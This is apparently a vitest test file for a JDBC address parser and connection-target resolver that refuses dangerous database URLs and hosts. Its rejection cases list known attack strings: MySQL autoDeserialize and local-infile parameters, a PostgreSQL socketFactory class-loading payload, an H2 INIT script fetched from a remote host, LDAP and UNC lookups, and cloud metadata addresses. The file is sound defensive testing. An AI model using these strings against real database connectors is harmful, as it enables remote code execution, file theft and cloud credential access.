import { describe, expect, test } from 'vitest';
import { resolveTarget } from './databaseTargets.ts';
import { readJdbcAddress } from './jdbcAddress.ts';

const read = (dbType: string, dbUrl: string, dbName = 'freight') => readJdbcAddress({ dbType, dbUrl, dbName });

describe('SYS-14 addresses of databases', () => {
  test.each([
    ['1', 'jdbc:mysql://db.example.com:3307/freight?useUnicode=true&characterEncoding=UTF-8&useSSL=false', 'db.example.com', 3307],
    ['4', 'jdbc:mysql://db/freight', 'db', 3306],
    ['2', 'jdbc:oracle:thin:@10.1.2.3:1521:freight', '10.1.2.3', 1521],
    ['2', 'jdbc:oracle:thin:@//ora/freight', 'ora', 1521],
    ['3', 'jdbc:sqlserver://sql:1433;SelectMethod=cursor;DatabaseName=freight', 'sql', 1433],
    ['6', 'jdbc:postgresql://[::1]:5433/freight?sslmode=require', '::1', 5433],
  ])('%s %s is read', (dbType, url, host, port) => {
    expect(read(dbType, url)).toMatchObject({ host, port, database: 'freight' });
  });

  test.each([
    // Parameters by which drivers load classes, read files or run what the far side sends.
    ['1', 'jdbc:mysql://db/freight?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor'],
    ['1', 'jdbc:mysql://db/freight?allowLoadLocalInfile=true'],
    ['1', 'jdbc:mysql://db/freight?useUnicode=true&allowUrlInLocalInfile=true'],
    ['1', 'jdbc:mysql://address=(host=evil)(autoDeserialize=true)/freight'],
    ['1', 'jdbc:mysql://(host=evil,autoDeserialize=true)/freight'],
    ['1', 'jdbc:mysql://good,evil/freight'],
    ['1', 'jdbc:mysql://user:secret@db/freight'],
    ['1', 'jdbc:mysql:loadbalance://db/freight'],
    ['1', 'jdbc:mysql://db/freight#?x=1'],
    ['1', 'jdbc:mysql://db/freight\n?allowLoadLocalInfile=true'],
    ['1', 'jdbc:mysql://db/freight?allowLoad%4cocalInfile=true'],
    ['1', 'jdbc:mysql://db/freight?useUnicode=true&constructor=1'],
    ['6', 'jdbc:postgresql://db/freight?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext'],
    ['6', 'jdbc:postgresql://db/freight?loggerFile=/tmp/x.jsp'],
    ['6', 'jdbc:postgresql:freight'],
    ['6', 'http://169.254.169.254/latest'],
    ['3', 'jdbc:sqlserver://sql;DatabaseName=freight;trustStore=\\\\evil\\share'],
    ['2', 'jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=evil)))'],
    ['2', 'jdbc:oracle:thin:@ldap://evil/cn=x'],
    ['1', 'jdbc:h2:mem:x;INIT=RUNSCRIPT FROM "http://evil/x.sql"'],
    ['1', 'jdbc:mysql://db:99999/freight'],
    ['1', 'jdbc:mysql://db/other'],
    ['9', 'jdbc:mysql://db/freight'],
    ['constructor', 'jdbc:mysql://db/freight'],
  ])('%s %j is refused', (dbType, url) => {
    expect(read(dbType, url)).toHaveProperty('message');
  });

  test('a driver of another kind is refused', () => {
    const source = { dbType: '1', dbUrl: 'jdbc:mysql://db/freight', dbName: 'freight' };
    expect(readJdbcAddress({ ...source, dbDriver: 'com.mysql.cj.jdbc.Driver' })).toMatchObject({ host: 'db' });
    for (const dbDriver of ['org.h2.Driver', 'javax.naming.InitialContext'])
      expect(readJdbcAddress({ ...source, dbDriver })).toMatchObject({ path: 'dbDriver' });
  });
});

describe('SYS-14 targets of connections', () => {
  const resolve = (host: string, addresses: readonly string[], listed: readonly string[] = [host], port = 5432) =>
    resolveTarget({ host, port, usualPort: 5432 }, { listed, find: () => Promise.resolve(addresses) });

  test('a listed host is reached at the address that was checked', async () => {
    await expect(resolve('db.internal', ['10.0.0.5'])).resolves.toBe('10.0.0.5');
    await expect(resolve('db.internal', ['10.0.0.5'], ['DB.internal:6000'], 6000)).resolves.toBe('10.0.0.5');
    await expect(resolve('127.0.0.1', [], ['127.0.0.1'])).resolves.toBe('127.0.0.1');
    await expect(resolve('localhost', ['127.0.0.1'])).resolves.toBe('127.0.0.1');
  });

  test.each([
    ['nothing is listed', 'db.internal', ['10.0.0.5'], [], 5432],
    ['another port', 'db.internal', ['10.0.0.5'], ['db.internal'], 22],
    ['another host', 'evil.internal', ['10.0.0.5'], ['db.internal'], 5432],
    ['a suffix', 'x.db.internal', ['10.0.0.5'], ['db.internal'], 5432],
    ['secrets of a cloud', '169.254.169.254', [], ['169.254.169.254'], 5432],
    ['a name for them', 'db.internal', ['169.254.169.254'], ['db.internal'], 5432],
    ['a mapped address of them', 'db.internal', ['::ffff:169.254.169.254'], ['db.internal'], 5432],
    ['one bad among good', 'db.internal', ['10.0.0.5', 'fe80::1'], ['db.internal'], 5432],
    ['a name for this machine', 'db.internal', ['127.0.0.1'], ['db.internal'], 5432],
    ['a mapped name for it', 'db.internal', ['::ffff:127.0.0.1'], ['db.internal'], 5432],
    ['no address', '0.0.0.0', [], ['0.0.0.0'], 5432],
    ['a name that leads nowhere', 'db.internal', [], ['db.internal'], 5432],
  ])('%s is refused', async (_what, host, addresses, listed, port) => {
    await expect(resolve(host, addresses, listed, port)).rejects.toMatchObject({ kind: 'Business' });
  });
});
